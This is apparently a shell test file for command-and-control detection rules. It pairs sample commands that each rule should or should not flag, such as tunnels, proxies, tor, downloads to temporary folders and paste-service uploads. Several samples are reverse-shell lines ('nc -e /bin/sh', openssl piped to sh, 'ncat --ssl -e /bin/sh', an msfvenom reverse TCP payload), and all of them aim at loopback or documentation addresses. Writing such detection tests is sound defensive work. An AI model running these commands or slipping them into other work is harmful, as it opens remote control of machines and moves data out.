# SPDX-License-Identifier: Apache-2.0
# command-and-control.sh - what is steered from elsewhere; read by ../record.sh, which says what the words mean
# shellcheck shell=bash disable=SC2016,SC2088

rule shell_connects_outside
# 203.0.113.0/24 is for documentation; here it is the namespace's own loopback.
record match '.ActionType == "ConnectionFailed" and .RemoteIP == "203.0.113.1" and .InitiatingProcessFileName == "bash"' \
	unshare -n sh -c 'ip link set lo up; ip address add 203.0.113.1/32 dev lo; exec bash -c ": >/dev/tcp/203.0.113.1/9"'
record no_match '.ActionType == "ConnectionFailed" and .RemoteIP == "127.0.0.1" and .RemotePort == 9 and .InitiatingProcessFileName == "bash"' \
	bash -c ': >/dev/tcp/127.0.0.1/9'
record no_match '.ActionType == "ConnectionFailed" and .RemoteIP == "203.0.113.1" and (.InitiatingProcessFileName | startswith("python"))' \
	unshare -n sh -c 'ip link set lo up; ip address add 203.0.113.1/32 dev lo; exec python3 -c "import socket; socket.create_connection((\"203.0.113.1\", 9))"'

rule tunnel_service_started
stand_in match cloudflared tunnel --url localhost:8080
stand_in match code tunnel --accept-server-license-terms
stand_in no_match cloudflared --version

rule ssh_tunnel_opened
stand_in match ssh -N -R 2222:localhost:22 127.0.0.1
stand_in match chisel client 127.0.0.1:80 R:socks
stand_in no_match ssh -N 127.0.0.1

rule proxy_set_on_command_line
stand_in match sh -c 'export http_proxy=127.0.0.1:3128; true'
stand_in match proxychains4 ssh x
stand_in no_match sh -c 'export http_prefix=127.0.0.1:3128; true'

rule anonymous_network_used
stand_in match tor --SocksPort 9050
stand_in match curl http://abcdefghijklmnop.onion/x
stand_in no_match tor --version

rule traffic_relayed
stand_in match socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
stand_in no_match socat -V

rule netcat_listens
stand_in match nc -lvp 4444
stand_in match nc -e /bin/sh 127.0.0.1 22
stand_in no_match nc -h
stand_in no_match nc 127.0.0.1 80

rule netcat_used
stand_in match nc -u 192.0.2.1 22
stand_in no_match nc -zv 192.0.2.1 22
stand_in no_match nc -u localhost 22

rule odd_port_tried
stand_in match telnet example.test 8081
stand_in no_match telnet example.test 25

rule download_to_temporary_folder
stand_in match curl -s -o /tmp/x http://192.0.2.1/x
stand_in match wget -P /dev/shm http://192.0.2.1/x
stand_in no_match curl -s -o /srv/x http://192.0.2.1/x

rule download_from_bare_address
stand_in match wget http://192.0.2.1/x.sh
stand_in no_match wget http://10.0.0.1/x.sh

rule paste_or_share_service_used
stand_in match curl -s -X POST -d x https://paste.rs
stand_in no_match curl -s -X POST -d x https://deb.debian.org

rule encoded_name_asked
stand_in match curl -XPOST MTExLTExLTExMTE=.example.test
stand_in match bash -c 'for d in a b; do dig $d.example.test; done'
stand_in no_match curl -XPOST mail.example.test

rule name_tunnel_started
stand_in match iodine -f example.test
stand_in no_match iostat -x

rule remote_control_tool_started
stand_in match tmate -F
stand_in no_match tmate -V

rule crypto_library_reverse_channel
stand_in match sh -c 'openssl s_client -quiet -connect 127.0.0.1:1 | sh'
stand_in match ncat --ssl 127.0.0.1 1 -e /bin/sh
stand_in no_match sh -c 'openssl s_client -quiet -connect 127.0.0.1:1 | cat'

rule attack_framework_agent
stand_in match msfvenom -p linux/x64/shell_reverse_tcp
stand_in no_match msform -p x

rule interpreter_accepts_connection
accepts match perl
accepts no_match python3

rule udp_to_odd_port
datagram match 203.0.113.1
datagram no_match 127.0.0.1
